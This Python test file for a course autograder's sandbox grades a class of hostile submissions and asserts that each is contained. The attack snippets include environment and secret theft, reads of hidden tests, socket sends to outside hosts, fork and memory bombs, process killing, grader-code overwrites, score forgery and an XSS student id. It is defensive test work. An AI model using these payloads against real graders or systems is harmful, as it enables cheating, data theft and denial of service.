"""Hostile submissions: every attack is contained.

Each hostile submission is the released stubs (worth exactly 0 points) plus an
attack, so any point it gets was forged. After grading the whole class we
check, for every attack: the score is 0, no file outside the worker changed,
nothing it started is still running, and no secret from the grader's
environment appears in any output.
"""

import hashlib
import json
import os
import re
import textwrap
import time
from pathlib import Path

import pytest
import torch

from autograder import paths
from autograder.commands.grading import grade_class
from autograder.intake.submission import TOO_DEEP
from autograder.intake.naming import result_path
from autograder.lesson.catalogue import build, copy_package, load_catalogue
from autograder.records.results import load
from autograder.sandbox.isolation import Limits, choose_sandbox
from autograder.errors import KitError
from autograder.intake.naming import safe_name
from lesson import CATALOGUE, CONTRACT, LESSON, MODULES, RELEASE, SOLUTIONS

STUBS = RELEASE
# The catalogue's hostile submissions (the demo's forger aside): stubs that vouch for themselves, which must score
# 0, and reference solutions with a speed cheat, which must fail exactly the tests they name (`catches`).
CATALOGUED = [entry for entry in load_catalogue(CATALOGUE / "hostile.toml", "hostile")
              if not entry.demo]
TOKEN = "hostile-" + hashlib.sha256(os.urandom(16)).hexdigest()[:12]
SECRET = "s3cret-" + hashlib.sha256(os.urandom(16)).hexdigest()[:16]


def _attacks(out, canary, port, repo):
    """``{student id: code prepended to heads.py}``; ``{id: replacement of split_heads' body}`` for call-time ones."""
    return {
        "patch-the-checks": """
            import builtins, torch
            torch.allclose = lambda *a, **k: True
            torch.equal = lambda *a, **k: True
            torch.testing.assert_close = lambda *a, **k: None
            builtins.AssertionError = type("AssertionError", (Exception,), {})
        """,
        "exit-early": "import sys; sys.exit(0)",
        "exit-hard": "import os; os._exit(0)",
        "fake-summary": """
            import os, sys
            print("=========== 111 passed in 0.01s ===========")
            print('{"score": 111, "tests": [{"name": "all", "score": 111, "max_score": 111}]}')
            sys.stderr.write("FAILED 0, PASSED 111\\n")
            os.write(1, b"Score: 111/111\\n")
        """,
        "write-results": f"""
            import glob, os
            targets = glob.glob({str(out)!r} + "/**", recursive=True) + [{str(canary)!r}, {str(out)!r} + "/gradebook.csv",
                       {str(out)!r} + "/results/write-results.json", {str(out)!r} + "/results/control.json"]
            for target in targets:
                try:
                    with open(target, "w") as handle:
                        handle.write('{{"score": 111}}')
                except OSError:
                    pass
        """,
        "read-hidden-tests": f"""
            import glob
            stolen = []
            for pattern in ("/autograder/lessons/*/hidden_tests/*.py", "/solutions/*/*.py", "/autograder/lessons/*/catalogue/*.toml"):
                for path in glob.glob({str(repo)!r} + pattern):
                    try:
                        stolen.append(open(path).read())
                    except OSError:
                        pass
            print("STOLEN", len(stolen), "".join(stolen)[:5000])
            if stolen:
                raise RuntimeError("".join(stolen)[:5000])
        """,
        "network": f"""
            import socket
            for address in (("127.0.0.1", {port}), ("8.8.8.8", 53)):
                try:
                    socket.create_connection(address, timeout=2).sendall(b"{TOKEN}")
                except OSError as error:
                    print("no network:", error)
        """,
        "leave-processes": f"""
            import os, subprocess, sys
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "{TOKEN}"],
                             start_new_session=True)
            if os.fork() == 0:
                os.setsid()
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "{TOKEN}"])
        """,
        "memory-bomb": "hoard = bytearray(64 * 2**30)",
        "process-bomb": """
            import os, time
            children = []
            for _ in range(2000):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:
                    time.sleep(300)
                    os._exit(0)
                children.append(pid)
            print("forked", len(children))
        """,
        "fill-the-disk": """
            chunk = b"x" * (1 << 20)
            for path in ("/tmp/big", "big"):
                try:
                    with open(path, "wb") as handle:
                        for _ in range(2048):
                            handle.write(chunk)
                except OSError as error:
                    print("stopped:", error)
        """,
        "flood-stdout": """
            import sys
            for _ in range(200):
                sys.stdout.write("spam " * 20000 + "\\n")
        """,
        "steal-environment": """
            import os
            print(dict(os.environ))
            raise RuntimeError(str(dict(os.environ)))
        """,
        "read-stdin": "import sys; print('stdin gave', repr(sys.stdin.read()))",
        "overwrite-code": f"""
            import glob
            for pattern in ("/submission/*.py", "/opt/grader/worker/*.py", {str(repo)!r} + "/solutions/*/*.py",
                            {str(repo)!r} + "/autograder/*.py", {str(repo)!r} + "/autograder/lessons/*/hidden_tests/*.py"):
                for path in glob.glob(pattern):
                    try:
                        with open(path, "w") as handle:
                            handle.write("hacked = True\\n")
                    except OSError:
                        pass
        """,
        "kill-everything": """
            import os, signal
            for target in (os.getppid(), 1, -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
        """,
        "forge-protocol": """
            import json, os, struct, sys
            fake = json.dumps({"value": {"__tensor__": 0, "dtype": "float32", "shape": [1], "device": "cpu"},
                               "blob_sizes": [4]}).encode()
            for fd in range(3, 64):  # whichever descriptor is the reply pipe
                try:
                    os.write(fd, struct.pack("<II", len(fake), 4) + fake + b"\\0\\0\\x80\\x3f")
                except OSError:
                    pass
        """,
        "look-around": """
            import glob, os
            found = sorted(set(glob.glob("/tmp/**/*.py", recursive=True)) | set(glob.glob("/submission/*.py")))
            print("SEEN", len(found), [os.path.basename(path) for path in found])
            print("PROCS", sorted(name for name in os.listdir("/proc") if name.isdigit()))
            reachable, signallable = [], []
            for pid in range(1, 1 << 15):  # the next student's worker, started early, must be out of reach
                try:
                    os.kill(pid, 0)
                    reachable.append(pid)
                    signallable.append(pid)
                except ProcessLookupError:
                    pass
                except OSError:
                    reachable.append(pid)  # exists, even if it may not be signalled
            print("REACHABLE", reachable)
            print("SIGNALLABLE", [pid for pid in signallable if pid != os.getpid()])
            print("HOME", os.getcwd())
            for pid in range(1, 400):  # whatever it can reach, it may not trace or kill the warm process
                try:
                    open(f"/proc/{pid}/mem", "rb").read(1)
                except OSError:
                    pass
            import tempfile
            writable = []
            try:
                tops = set(os.listdir("/"))
            except OSError:  # confined: "/" itself may not be listed; try the usual places by name
                tops = set()
            tops |= {"tmp", "var", "dev", "run", "home", "root", "work", "opt", "srv", "mnt", "media", "etc", "usr"}
            home = os.getcwd()
            for root in [home] + ["/" + top for top in sorted(tops)]:
                for folder, subfolders, _ in os.walk(root):
                    if folder.startswith(("/proc", "/sys")) or (root != home and (folder + "/").startswith(home + "/")):
                        subfolders.clear()  # its own home is tried on its own, first
                        continue
                    if not os.access(folder, os.W_OK):
                        continue
                    try:  # then a real write: permission bits alone do not tell what a security module allows
                        tempfile.TemporaryFile(dir=folder).close()
                    except OSError:
                        continue
                    writable.append(folder)
                    subfolders.clear()
            print("WRITABLE", writable)
        """,
        "read-other-students": f"""
            import glob
            print("OTHERS", [open(p).read()[:100] for p in glob.glob({str(out.parent / "class")!r} + "/*/*.py")][:3])
        """,
        "malformed-replies": MALFORMED_REPLIES,
        "megabyte-messages": """
            import sys
            session = sys.modules["worker.session"]
            session._safe_text = lambda value, limit=0: str(value)  # the worker's own cap, undone
            session.MESSAGE_LIMIT = 1 << 30
        """,
        "stop-reading": STOP_READING,
    }


# Every reply the worker sends is replaced by one of these, in turn: each must fail the call as a crash would,
# never as a grader problem (which would earn a second grading), and none may reach the instructor's notes.
MALFORMED_REPLIES = """
    import itertools, json, os, struct, sys
    protocol = sys.modules["worker.protocol"]
    real_send = protocol.send
    blob = bytes(1 << 20)
    tensor = {"__tensor__": 0, "dtype": "float32", "shape": [1 << 18], "device": "cpu"}
    forms = itertools.cycle([
        ("blob-reuse", {"value": [tensor] * 1000}, [blob]),  # 1 GiB of tensors from 1 MiB of bytes
        ("bool-shape", {"value": {"__tensor__": 0, "dtype": "float32", "shape": [True], "device": "cpu"}},
         [bytes(4)]),
        ("bad-record", {"error": {"type": ["FORGED-TEXT"], "mro": 7, "message": {"FORGED-TEXT": 1},
                                  "where": "FORGED-TEXT"}, "forbidden": 5}, []),
        ("bad-handle", {"value": {"__handle__": True, "type": "FORGED-TEXT"}}, []),
        ("bad-dict", {"value": {"__dict__": [["FORGED-TEXT", 1, 2]]}}, []),
        ("deep", None, []),
    ])

    def forged_send(fd, message, blobs=(), *args, **kwargs):
        if "nonce" not in message:
            return real_send(fd, message, blobs, *args, **kwargs)
        name, body, parts = next(forms)
        if body is None:  # nesting far beyond any parser's recursion limit, written by hand
            text = '{"nonce": "%s", "value": ' % message["nonce"] + "[" * 200000 + "]" * 200000 + "}"
            data = text.encode()
            os.write(fd, struct.pack("<II", len(data), 0) + data)
            return None
        return real_send(fd, dict(body, nonce=message["nonce"]), parts, *args, **kwargs)

    protocol.send = forged_send
"""

# The worker stops reading requests (its request pipe shrunk to one page and left unread, another pipe read in its
# place) after answering normally: a request larger than a page used to block the judge's write forever.
STOP_READING = """
    import fcntl, os, stat
    F_SETPIPE_SZ = 1031
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
                fcntl.fcntl(fd, F_SETPIPE_SZ, 4096)
                _kept = os.dup(fd)  # the judge's pipe stays open, and unread
                _read, _write = os.pipe()
                os.dup2(_read, fd)
        except OSError:
            pass
"""

# Exceptions that carry the hidden inputs back, in their message and in their class's name: feedback and results
# a student can see must carry neither (the instructor sees the messages).
ECHO_INPUTS = """
    import torch
    values = "_".join(str(abs(int(v * 1e6))) for v in torch.as_tensor(x).flatten()[:8].tolist())
    raise type("ECHO_" + values, (ValueError,), {})("ECHO " + values)
"""


EVIL_SUBCLASS = '''
    import torch

    class Liar(torch.Tensor):
        """Claims to equal anything."""

        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            return True

        def __eq__(self, other):
            return True

    return torch.Tensor._make_subclass(Liar, torch.zeros(x.shape[0], num_heads, x.shape[1], x.shape[2] // num_heads))
'''


# The ways a worker is isolated: forked from a warm zygote, a bwrap sandbox of its own, or (where bubblewrap is
# refused) confined without namespaces. The last runs in the run test_the_suite_holds_without_bubblewrap starts.
MODES = ["forked", "own-sandbox", "uid"]
UID_RUN = os.environ.get("MHA_PE_UID_RUN") == "1"


def _sandbox_for(mode):
    """``(sandbox mode, fork)`` for a hostile-suite mode; skips what this machine or this run cannot do."""
    if mode == "uid":
        if not UID_RUN:
            pytest.skip("confined (uid) mode runs in test_the_suite_holds_without_bubblewrap's own run")
        try:
            choose_sandbox("uid")
        except KitError as error:
            pytest.skip(f"needs confinement without namespaces: {error}")
        return "uid", False
    if UID_RUN:
        pytest.skip("this run is for the confined mode only")
    try:
        choose_sandbox("bwrap")
    except KitError as error:
        pytest.skip(f"the hostile suite needs the sandbox: {error}")
    return "bwrap", mode == "forked"


@pytest.fixture
def scratch():
    """A scratch folder for a worker factory, in the system's temporary folder (a confined worker's user must
    pass through every folder above its own, which pytest's own folders do not let it)."""
    import shutil
    import tempfile

    folder = Path(tempfile.mkdtemp(prefix="mha-pe-hostile-"))
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def _snapshot(*roots):
    digest = {}
    for root in roots:
        for path in sorted(Path(root).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


def _alive_with(token):
    alive = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    alive.append(int(entry.name))
            except OSError:
                pass
    return alive


@pytest.fixture(scope="module", params=MODES)
def attacked(request, tmp_path_factory, loopback_listener):
    """The class graded in each mode: workers forked from a warm zygote, one sandbox per worker, confined."""
    sandbox_mode, fork = _sandbox_for(request.param)
    root = tmp_path_factory.mktemp("hostile")
    class_dir, out = root / "class", root / "out"
    canary = root / "canary.txt"
    canary.write_text("untouched")
    listener = loopback_listener
    attacks = _attacks(out, canary, listener.port, paths.REPO_ROOT)
    for student, code in attacks.items():
        folder = copy_package(STUBS, class_dir / student, MODULES)
        heads = folder / "heads.py"
        heads.write_text(textwrap.dedent(code).strip() + "\n\n" + heads.read_text())
    folder = copy_package(STUBS, class_dir / "tensor-subclass", MODULES)
    heads = (folder / "heads.py").read_text()
    marker = '    raise NotImplementedError("split_heads is not implemented yet")\n'
    (folder / "heads.py").write_text(heads.replace(marker, textwrap.indent(textwrap.dedent(EVIL_SUBCLASS), "    ")))
    folder = copy_package(STUBS, class_dir / "symlink-to-solutions", MODULES)
    (folder / "heads.py").unlink()
    (folder / "heads.py").symlink_to(SOLUTIONS / "heads.py")
    folder = copy_package(STUBS, class_dir / "echo-inputs", MODULES)
    heads = (folder / "heads.py").read_text()
    (folder / "heads.py").write_text(heads.replace(marker, textwrap.indent(textwrap.dedent(ECHO_INPUTS), "    ")))
    copy_package(SOLUTIONS, class_dir / "control", MODULES)
    folder = copy_package(SOLUTIONS, class_dir / "kernel-by-computed-name", MODULES)
    attention = (folder / "attention.py").read_text()
    body = attention[attention.index(SDPA_BODY_STARTS):attention.index(SDPA_BODY_ENDS) + len(SDPA_BODY_ENDS)]
    kernel = textwrap.indent(textwrap.dedent(KERNEL_BY_NAME), "    ")
    (folder / "attention.py").write_text(attention.replace(body, kernel))
    folder = copy_package(SOLUTIONS, class_dir / "flex-by-computed-import", MODULES)
    attention = (folder / "attention.py").read_text()
    (folder / "attention.py").write_text(attention.replace(SDPA_BODY_STARTS, FLEX_BY_IMPORT + SDPA_BODY_STARTS, 1))
    folder = copy_package(SOLUTIONS, class_dir / "scan-bomb", MODULES)
    attention = (folder / "attention.py").read_text()
    (folder / "attention.py").write_text(attention.replace(SDPA_BODY_STARTS, BUILTIN_CALLED + SDPA_BODY_STARTS, 1)
                                         + SCAN_BOMB)
    folder = copy_package(SOLUTIONS, class_dir / "builtin-from-c-module", MODULES)
    attention = (folder / "attention.py").read_text()
    (folder / "attention.py").write_text(attention.replace(SDPA_BODY_STARTS, FROM_C_MODULE + SDPA_BODY_STARTS, 1))
    folder = copy_package(SOLUTIONS, class_dir / "kernel-from-a-class-table", MODULES)
    attention = (folder / "attention.py").read_text()
    body = attention[attention.index(SDPA_BODY_STARTS):attention.index(SDPA_BODY_ENDS) + len(SDPA_BODY_ENDS)]
    kernel = textwrap.indent(textwrap.dedent(KERNEL_BY_NAME.replace("getattr(torch,", FROM_CLASS_TABLE)), "    ")
    (folder / "attention.py").write_text(attention.replace(body, kernel))
    folder = copy_package(SOLUTIONS, class_dir / "kernel-in-a-sibling-by-computed-name", MODULES)
    (folder / "heads.py").write_text((folder / "heads.py").read_text() + SIBLING_KERNEL)
    attention = (folder / "attention.py").read_text()
    body = attention[attention.index(SDPA_BODY_STARTS):attention.index(SDPA_BODY_ENDS) + len(SDPA_BODY_ENDS)]
    (folder / "attention.py").write_text(attention.replace(body, textwrap.indent(textwrap.dedent(SIBLING_BY_NAME),
                                                                                 "    ")))
    folder = copy_package(SOLUTIONS, class_dir / "builtin-in-own-namespace", MODULES)
    attention = (folder / "attention.py").read_text()
    (folder / "attention.py").write_text(attention.replace(SDPA_BODY_STARTS, IN_OWN_NAMESPACE + SDPA_BODY_STARTS, 1))
    for entry in CATALOGUED:
        build(entry, class_dir / entry.id, LESSON)
    # Intake: links to the instructor's solutions or a classmate's repository, a FIFO, odd ids.
    classmate = class_dir / "classmate-repo"
    copy_package(SOLUTIONS, classmate / "assignments" / LESSON.id, MODULES)
    (class_dir / "link-assignments-to-solutions").mkdir()
    (class_dir / "link-assignments-to-solutions" / "assignments").symlink_to(SOLUTIONS.parent)
    (class_dir / "link-to-classmate").mkdir()
    (class_dir / "link-to-classmate" / "assignments").symlink_to("../classmate-repo/assignments")
    (class_dir / "linked-folder").symlink_to(SOLUTIONS)
    folder = copy_package(STUBS, class_dir / "fifo-file", MODULES)
    (folder / "attention.py").unlink()
    os.mkfifo(folder / "attention.py")
    for odd in ODD_IDS:
        copy_package(STUBS, class_dir / odd, MODULES)

    watched = [paths.REPO_ROOT / "solutions", paths.REPO_ROOT / "assignments", paths.REPO_ROOT / "autograder",
               paths.REPO_ROOT / "tests"]
    before = _snapshot(*watched)
    old = os.environ.get("MHA_PE_GRADER_SECRET")
    os.environ["MHA_PE_GRADER_SECRET"] = SECRET  # inherited by the judges; workers must never see it
    try:
        results = grade_class(class_dir, out, jobs=2, sandbox_mode=sandbox_mode, emit=lambda line: None,
                              limits=Limits(call_seconds=8.0, submission_seconds=90.0),
                              fork=fork, skip_notebook=True)
    finally:
        if old is None:
            os.environ.pop("MHA_PE_GRADER_SECRET", None)
        else:
            os.environ["MHA_PE_GRADER_SECRET"] = old
    yield {
        "results": {result.student: result for result in results},
        "out": out,
        "canary": canary,
        "listener": listener,
        "changed": {path for path, digest in _snapshot(*watched).items() if before.get(path) != digest}
        | (set(before) - set(_snapshot(*watched))),
        "mode": request.param,
        "attacks": sorted(attacks) + ["tensor-subclass", "symlink-to-solutions", "echo-inputs", "fifo-file",
                                      "link-assignments-to-solutions", "link-to-classmate", "linked-folder",
                                      *ODD_IDS] + [entry.id for entry in CATALOGUED if entry.base == "stubs"],
        "cheats": [entry for entry in CATALOGUED if entry.base != "stubs"],
    }
    for pid in _alive_with(TOKEN):  # never leave anything behind, even when a test below fails
        try:
            os.kill(pid, 9)
        except OSError:
            pass


ODD_IDS = ["é" * 120, "<img src=x onerror=alert(1)>"]  # too long once escaped (240 bytes); markup

# The reference's attention math, from its scale to its return, replaced by PyTorch's private kernel, whose name is
# built at run time (no scan of the text can see it), blocked rows zeroed: before that path was forbidden, it kept
# every point but the mask test's (whose tolerance its rounding misses). Only the worker's tripwire sees it.
SDPA_BODY_STARTS = "    scale = 1.0 / math.sqrt(q.shape[-1])"
SDPA_BODY_ENDS = "return weights @ v, weights  # (..., seq_q, d_v), (..., seq_q, seq_k)"
KERNEL_BY_NAME = """
    kernel = getattr(torch, "_scaled_dot_" + "product_attention_math")
    output, weights = kernel(q, k, v, attn_mask=mask)
    if mask is not None:
        keeps = mask.any(dim=-1, keepdim=True)
        output, weights = output.masked_fill(~keeps, 0.0), weights.masked_fill(~keeps, 0.0)
    return output, weights
"""
# The same kernel from a class's attributes, which no tripwire can replace, by a name the scan cannot read: the
# dispatcher sees the call.
FROM_CLASS_TABLE = "getattr(torch._C._VariableFunctions,"
# The private kernel from a table no tripwire can wrap (a class's attribute), in a helper of heads.py that nothing
# there names, reached from attention.py through a module looked up by a computed name: the scan alone sees it.
SIBLING_KERNEL = """

def attend(q, k, v, mask=None):
    import torch

    return torch._C._VariableFunctions._scaled_dot_product_attention_math(q, k, v, attn_mask=mask)
"""
SIBLING_BY_NAME = """
import sys

helper = getattr(sys.modules[__package__ + ".he" + "ads"], "att" + "end")
output, weights = helper(q, k, v, mask)
if mask is not None:
    keeps = mask.any(dim=-1, keepdim=True)
    output, weights = output.masked_fill(~keeps, 0.0), weights.masked_fill(~keeps, 0.0)
return output, weights
"""
# Flex attention, in a submodule torch does not import itself, imported by a computed name and called before the
# reference's own math (its answer unused, any error swallowed): the tripwire on it must still be in force.
FLEX_BY_IMPORT = """    try:
        __import__("importlib").import_module("torch.nn.attention." + "flex_attention").flex_attention(q, k, v)
    except Exception:
        pass
"""

# A helper nobody calls, nested past the judge's parse but not the worker's compiler (keyword arguments count twice
# in a syntax tree, once in the compiler): it once left the whole file unscanned, and the forbidden call beside it
# kept every point. Intake refuses such a file.
SCAN_BOMB = "\n\ndef _never():\n    return " + "f(a=" * 150 + "a" + ".b" * 2720 + ")" * 150 + "\n"
BUILTIN_CALLED = "    torch._C._nn.scaled_dot_product_attention(q, k, v)\n"


# The same function as torch.nn.functional's, kept by torch's C extension (torch._C._nn), reached by a computed
# name: a tripwire on the contract's path alone would not see it.
FROM_C_MODULE = """    try:
        getattr(getattr(torch._C, "_n" + "n"), "scaled_dot_" + "product_attention")(q, k, v)
    except Exception:
        pass
"""


# The scan leaves a name the module defines, looked up in the module's own namespace, to the student: here that
# namespace is filled for a moment from torch.nn.functional's (reached through a computed name), so the look-up
# reaches the forbidden function of the same name. Only the tripwire on the function itself can see the call.
IN_OWN_NAMESPACE = """    own = dict(globals())
    try:
        globals().update(vars(getattr(globals()["tor" + "ch"].nn, "func" + "tional")))
        globals()["scaled_dot_product_attention"](q, k, v)
    except Exception:
        pass
    finally:
        globals().update(own)
"""


@pytest.mark.slow
def test_every_attack_was_graded(attacked):
    assert set(attacked["attacks"]) | {entry.id for entry in attacked["cheats"]} \
        | {"control", "classmate-repo", "kernel-by-computed-name", "flex-by-computed-import",
           "builtin-in-own-namespace", "scan-bomb", "builtin-from-c-module",
           "kernel-in-a-sibling-by-computed-name", "kernel-from-a-class-table"} == set(attacked["results"])


@pytest.mark.slow
def test_a_worker_vouching_for_itself_earns_nothing(attacked):
    """Layers, buffers, gradients and head sizes are data the judge checks by recomputing, never the worker's word."""
    forged = [entry.id for entry in CATALOGUED if entry.base == "stubs"]
    assert forged and {student: attacked["results"][student].score for student in forged} == dict.fromkeys(forged, 0)
    # Its exception's text reaches the instructor's view only (student_messages), never the student's outputs.
    messages = " ".join(attacked["results"]["forge-session-claims"].extra.get("student_messages", {}).values())
    assert "nothing behind the claims" in messages, "the forged session was never in force: the test proves nothing"


@pytest.mark.slow
def test_speed_cheats_lose_the_speed_check_and_nothing_else(attacked):
    """Fresh arguments for every timed call (no cache answers them), each timed table checked: a cached loop and a
    loop that answers large sizes instantly with a wrong table both lose the vectorization check."""
    assert attacked["cheats"]
    for entry in attacked["cheats"]:
        failed = {test.id for test in attacked["results"][entry.id].tests if test.status == "failed"}
        assert failed == set(entry.catches), entry.id


@pytest.mark.slow
@pytest.mark.parametrize("student, api", [
    ("kernel-by-computed-name", "torch._scaled_dot_product_attention_math"),
    ("flex-by-computed-import", "torch.nn.attention.flex_attention.flex_attention"),
    ("builtin-in-own-namespace", "torch.nn.functional.scaled_dot_product_attention"),
    ("builtin-from-c-module", "torch.nn.functional.scaled_dot_product_attention"),
    ("kernel-in-a-sibling-by-computed-name", "torch._scaled_dot_product_attention_math"),
    ("kernel-from-a-class-table", "torch._scaled_dot_product_attention_math")])
def test_a_forbidden_api_reached_by_a_computed_name_is_charged_to_it(attacked, student, api):
    """The scan cannot read the name; the run-time tripwire on the contract's path records the call (or, for a
    copy no tripwire can wrap, the scan charges whatever a computed name may reach), so every test that reached
    the student's attention fails, charged to that API, and nothing else is lost."""
    result = attacked["results"][student]
    failed = [test for test in result.tests if test.status == "failed"]
    assert {"test_attention_values", "test_attention_shapes"} <= {test.id for test in failed}, result.tests
    assert all(test.cause is not None and test.cause.kind == "forbidden" and api in test.cause.apis
               for test in failed), failed
    assert {test.group for test in failed} <= {"attention", "whole_model"}, failed  # its other files are the reference's
    assert 0 < result.score < result.max_score


@pytest.mark.slow
def test_a_file_the_scans_cannot_read_never_reaches_the_worker(attacked):
    """The bomb's file is refused at intake: the attention it holds (with a forbidden call) earns nothing, and
    the student's other files are graded as ever."""
    result = attacked["results"]["scan-bomb"]
    assert result.intake_problems == {"attention": TOO_DEEP}
    by_group = {}
    for test in result.tests:
        by_group.setdefault(test.group, []).append(test)
    assert all(test.status == "failed" for test in by_group["attention"])
    assert by_group["heads"] and all(test.status == "passed" for test in by_group["heads"])


@pytest.mark.slow
def test_no_attack_forges_a_single_point(attacked):
    forged = {student: attacked["results"][student].score for student in attacked["attacks"]
              if attacked["results"][student].score != 0 and student != "tensor-subclass"}
    assert forged == {}


@pytest.mark.slow
def test_a_lying_tensor_subclass_arrives_as_plain_zeros(attacked):
    """Its zeros have the right shape (that check passes, honestly); no value check believes its claims."""
    result = attacked["results"]["tensor-subclass"]
    assert {test.id for test in result.tests if test.status == "passed"} == {"test_split_shape"}
    # What happened, never the concept's text (which may name an exception a contract asks for).
    assert not any("TypeError" in test.happened for test in result.tests)


@pytest.mark.slow
def test_the_honest_students_beside_them_keep_full_marks(attacked):
    for honest in ("control", "classmate-repo"):
        result = attacked["results"][honest]
        assert result.score == result.max_score > 0 and result.notes == ()
        assert load(result_path(attacked["out"], honest)).score == result.max_score


@pytest.mark.slow
def test_no_file_outside_the_worker_changed(attacked):
    assert attacked["changed"] == set()
    assert attacked["canary"].read_text() == "untouched"


@pytest.mark.slow
def test_results_on_disk_are_the_judges(attacked):
    for student, result in attacked["results"].items():
        assert load(result_path(attacked["out"], student)) == result


@pytest.mark.slow
def test_nothing_the_attacks_started_is_still_running(attacked):
    assert _alive_with(TOKEN) == []


@pytest.mark.slow
def test_no_secret_and_no_hidden_test_in_any_output(attacked):
    hidden = (LESSON.hidden_tests / "check_heads.py").read_text()
    solution = (SOLUTIONS / "heads.py").read_text()
    probes = [SECRET, hidden[200:260], solution[solution.index("### BEGIN"):][:80]]
    for path in attacked["out"].rglob("*"):
        if path.is_file() and path.suffix in (".json", ".md", ".csv"):
            text = path.read_text(errors="replace")
            for probe in probes:
                assert probe not in text, f"{probe[:30]!r} leaked into {path.name}"


@pytest.mark.slow
def test_the_network_is_unreachable(attacked):
    assert attacked["listener"].connections == 0


@pytest.mark.slow
def test_output_floods_are_capped(attacked):
    output = attacked["results"]["flood-stdout"].extra.get("student_output", "")
    assert len(output) < 3 * Limits().output_bytes and "not kept" in output


@pytest.mark.slow
def test_fake_summaries_stay_student_output(attacked):
    result = attacked["results"]["fake-summary"]
    assert "111 passed" in result.extra.get("student_output", "")
    assert result.score == 0


@pytest.mark.slow
def test_stdin_is_closed_not_waited_on(attacked):
    result = attacked["results"]["read-stdin"]
    assert "stdin gave ''" in result.extra.get("student_output", "")
    assert not any("time limit" in note for note in result.notes)


def _line(output, label):
    return output.split(label + " ", 1)[1].splitlines()[0]


@pytest.mark.slow
def test_a_worker_sees_only_its_own_files_and_no_other_process(attacked):
    output = attacked["results"]["look-around"].extra.get("student_output", "")
    writable = re.findall(r"'([^']+)'", _line(output, "WRITABLE"))
    assert re.findall(r"\d+", _line(output, "SIGNALLABLE")) == []  # nothing beside itself is its to signal
    if attacked["mode"] == "uid":
        # No namespaces: it may see that other processes exist, but read, write or signal nothing of theirs.
        assert int(_line(output, "SEEN").split()[0]) <= 3, output[:300]
        assert writable == [_line(output, "HOME")], writable  # its own home, nowhere else
        return
    assert "SEEN 3 " in output, output[:300]  # its own three modules, nothing of anyone else
    procs = re.findall(r"'(\d+)'", _line(output, "PROCS"))
    assert len(procs) <= 2, procs  # forked: none (empty /proc); own sandbox: itself and bwrap's init
    reachable = re.findall(r"\d+", _line(output, "REACHABLE"))
    assert 1 <= len(reachable) <= 2, reachable  # itself (and bwrap's init): no zygote, no other student's worker
    # Every place it may write is a size-capped tmpfs of its own, gone with it.
    assert "/tmp" in writable and set(writable) <= {"/tmp", "/dev/shm"}, writable


@pytest.mark.slow
def test_a_symlinked_file_is_not_followed(attacked):
    result = attacked["results"]["symlink-to-solutions"]
    assert any("heads.py was not used: it is a symbolic link" in note for note in result.notes)


@pytest.mark.slow
@pytest.mark.parametrize("student, note", [
    ("link-assignments-to-solutions", "assignments is a symbolic link"),
    ("link-to-classmate", "assignments is a symbolic link"),
    ("linked-folder", "the submission folder was not used: it is a symbolic link"),
    ("fifo-file", "attention.py was not used: not a regular file"),
])
def test_links_and_special_files_are_refused_with_a_note(attacked, student, note):
    result = attacked["results"][student]
    assert result.score == 0 and any(note in line for line in result.notes), result.notes


@pytest.mark.slow
def test_odd_ids_are_graded_and_escaped_in_every_report(attacked):
    out = attacked["out"]
    for student in ODD_IDS:
        path = result_path(out, student)
        assert path.exists() and len(path.name.encode()) <= 255 and load(path).student == student
    feedback = [path.read_text() for path in (out / "feedback").glob("*.md")]
    report = (out / "report.md").read_text()
    assert not any("<img" in text for text in feedback + [report])
    assert any("&lt;img src=x onerror=alert\\(1\\)&gt;" in text for text in feedback)
    # The plain-text feedback has no markup to escape: the id as written, on one line, no control character.
    text = [path.read_text() for path in (out / "feedback").glob("*.txt")]
    assert any("Feedback for <img src=x onerror=alert(1)>" in page for page in text)
    assert not any(char in page for page in text for char in "\x1b\r\u202e")


def _everything_a_student_sees(result, out):
    """The student's feedback file, and what Gradescope shows of the result: its output and visible tests'."""
    feedback = (out / "feedback" / f"{safe_name(result.student)}.md").read_text()
    shown = [test.output for test in result.tests if test.visibility != "hidden"]
    return "\n".join([feedback, result.output, *shown])


@pytest.mark.slow
def test_malformed_replies_fail_their_tests_and_are_never_the_graders_problem(attacked):
    result = attacked["results"]["malformed-replies"]
    assert result.score == 0
    assert all(failure.kind == "check_crashed" for failure in result.grader_failures), result.grader_failures
    assert not any("second time" in note for note in result.notes), result.notes
    assert any("malformed reply" in note for note in result.notes)
    assert "FORGED-TEXT" not in json.dumps(result.to_json())


@pytest.mark.slow
def test_megabyte_messages_are_cut_before_they_are_kept(attacked):
    path = result_path(attacked["out"], "megabyte-messages")
    assert path.stat().st_size < 200_000
    result = attacked["results"]["megabyte-messages"]
    assert all(len(text) <= 400 for text in result.extra.get("student_messages", {}).values())


@pytest.mark.slow
def test_a_worker_that_stops_reading_is_a_timeout_not_a_hang(attacked):
    result = attacked["results"]["stop-reading"]
    assert result.score == 0 and any("time limit" in note for note in result.notes), result.notes


@pytest.mark.slow
def test_echoed_hidden_inputs_reach_the_instructor_only(attacked):
    result = attacked["results"]["echo-inputs"]
    assert "ECHO" not in _everything_a_student_sees(result, attacked["out"])
    assert any(text.startswith("ECHO_") for text in result.extra["student_messages"].values())
    split = [test for test in result.tests if test.id == "test_split_shape"][0]
    assert "split_heads raised ValueError at heads.py:" in split.output


LINGER = '''
import os, sys, time
if os.fork() == 0:  # a process holding no pipe to the judge: only the end of the namespace can stop it
    os.closerange(0, 256)
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", {token!r}])
time.sleep(0.5)  # long enough for it to be running under its new name
os.close(1)  # and the worker itself lets go of its output pipe: the judge cannot wait for that to close
os.close(2)
'''


@pytest.mark.parametrize("mode", MODES)
def test_what_a_worker_started_is_gone_when_its_close_returns(mode, tmp_path, scratch):
